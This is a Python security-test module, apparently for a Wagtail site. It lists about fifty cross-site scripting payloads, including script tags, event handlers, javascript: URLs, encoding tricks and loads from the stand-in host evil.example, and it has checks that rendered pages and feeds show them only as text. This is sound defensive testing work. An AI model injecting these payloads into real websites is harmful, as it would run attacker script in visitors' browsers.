"""Hostile input for every field a stranger or a student controls, and the check that a page shows it only as
text. Every payload, if it ever ran, would call alert/confirm/prompt with 1337 or load from evil.example."""

import re
from urllib.parse import urlsplit
from xml.etree import ElementTree

from bs4 import BeautifulSoup

PAYLOADS = [
    "<script>alert(1337)</script>",
    "<SCRIPT>alert(1337)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    '"><script>alert(1337)</script>',
    "'><script>alert(1337)</script>",
    "</textarea><script>alert(1337)</script>",
    "</title><script>alert(1337)</script>",
    "<img src=x onerror=alert(1337)>",
    "<IMG SRC=x OnErRoR=alert(1337)>",
    '<img src="x" onerror="&#97;lert(1337)">',
    "<svg onload=alert(1337)>",
    "<svg><script>alert(1337)</script></svg>",
    "<svg/onload=alert(1337)//",
    "<body onload=alert(1337)>",
    '<iframe src="javascript:alert(1337)"></iframe>',
    '<iframe srcdoc="<script>alert(1337)</script>"></iframe>',
    '<a href="javascript:alert(1337)">click</a>',
    '<a href="JaVaScRiPt:alert(1337)">click</a>',
    '<a href="&#106;avascript:alert(1337)">click</a>',
    '<a href="java&#x09;script:alert(1337)">click</a>',
    "javascript:alert(1337)",
    " JAVASCRIPT:confirm(1337)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxMzM3KTwvc2NyaXB0Pg==",
    '<object data="javascript:alert(1337)"></object>',
    '<embed src="javascript:alert(1337)">',
    "<math><mtext><script>alert(1337)</script></mtext></math>",
    "<details open ontoggle=alert(1337)>",
    "<input autofocus onfocus=alert(1337)>",
    "<video><source onerror=alert(1337)></video>",
    "<marquee onstart=alert(1337)>x</marquee>",
    '<div style="background:url(javascript:alert(1337))">x</div>',
    '<style>@import "//evil.example/x.css";</style>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1337)">',
    '<form action="javascript:alert(1337)"><button>go</button></form>',
    '" onmouseover="alert(1337)',
    "' onfocus='prompt(1337)' autofocus='",
    "[click me](javascript:alert(1337))",
    "![x](javascript:alert(1337))",
    '<a href="https://example.org" onclick="alert(1337)">link</a>',
    "%3Cscript%3Ealert(1337)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1337)&lt;/script&gt;",
    "<scr<script>ipt>alert(1337)</scr</script>ipt>",
    "{{ 1337|add:1 }}{% debug %}",
    "\u202e<script>alert(1337)</script>\u200b",
    'http://example.org/"onmouseover="alert(1337)',
    "www.example.org/<script>alert(1337)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1337)>">',
    '<a href="\x01javascript:alert(1337)">x</a>',
]


def marker(payload):
    """A piece of the payload that survives escaping, to tell that a page shows it at all."""
    return next((piece for piece in ("1337", "evil.example") if piece in payload), payload[-12:])


# What a payload that ran would call: alert(1337), confirm(1337), prompt(1337). Never the bare number, which an object
# id in a page's own data reaches sooner or later in a long run (the editor's JSON named a row 1337 once).
RUNS = "(1337)"
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcdoc", "cite", "background"}
ACTIVE_SCHEME = re.compile(r"^(javascript|vbscript|data:text/html)", re.I)
HTML_SPECIALS = set("<>\"'")


def assert_inert(html, payload, where, *, own_scripts=True, quotes_in_text=False):
    """`payload` appears in `html` only as text: never verbatim where it holds markup characters, and nothing in
    the parsed page is a script, handler or active URL that it could have made.

    `own_scripts=False` for the admin, whose templates carry inline scripts of their own (JSON-escaped data).
    `quotes_in_text=True` where rich text saved by Wagtail's editor shows: it escapes <, > and & in text, not quotes
    (harmless outside an attribute, and the parsed page is still checked for the attribute they would make)."""
    specials = HTML_SPECIALS - {'"', "'"} if quotes_in_text else HTML_SPECIALS
    if specials & set(payload):
        assert payload not in html, f"{where}: the payload is in the page unescaped"
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name.lower().startswith("on"):
                assert RUNS not in value, f"{where}: <{tag.name} {name}={value!r}>"
            if name.lower() in URL_ATTRIBUTES:
                squeezed = re.sub(r"[\x00-\x20]", "", value)
                assert not ACTIVE_SCHEME.match(squeezed), f"{where}: <{tag.name} {name}={value!r}>"
                assert "evil.example" not in urlsplit(squeezed).netloc, f"{where}: <{tag.name} {name}={value!r}>"
        if tag.name == "script":
            assert RUNS not in (tag.string or ""), f"{where}: a script runs the payload"
            if own_scripts:
                assert tag.get("src", "").startswith("/static/"), f"{where}: a script not of ours: {tag}"
        if tag.name in {"iframe", "object", "embed", "base", "style", "svg", "math"}:
            assert RUNS not in str(tag) and "evil.example" not in str(tag), f"{where}: {tag}"
        if tag.name == "meta":
            assert "http-equiv" not in tag.attrs or RUNS not in str(tag), f"{where}: {tag}"


def assert_feed_inert(xml, payload, where):
    """An entry's HTML-bearing elements (RSS item description, Atom summary and content) are HTML to a feed
    reader: each must show the payload only as text. Plain-text elements are escaped by the XML itself."""
    root = ElementTree.fromstring(xml)
    assert marker(payload) in "".join(root.itertext()), f"{where} does not show the text at all"
    for entry in root.iter():
        if entry.tag.rsplit("}", 1)[-1] not in {"item", "entry"}:
            continue
        for element in entry:
            name = element.tag.rsplit("}", 1)[-1]
            if name in {"description", "summary", "content"} and element.text:
                assert_inert(element.text, payload, f"{where} <{name}>")
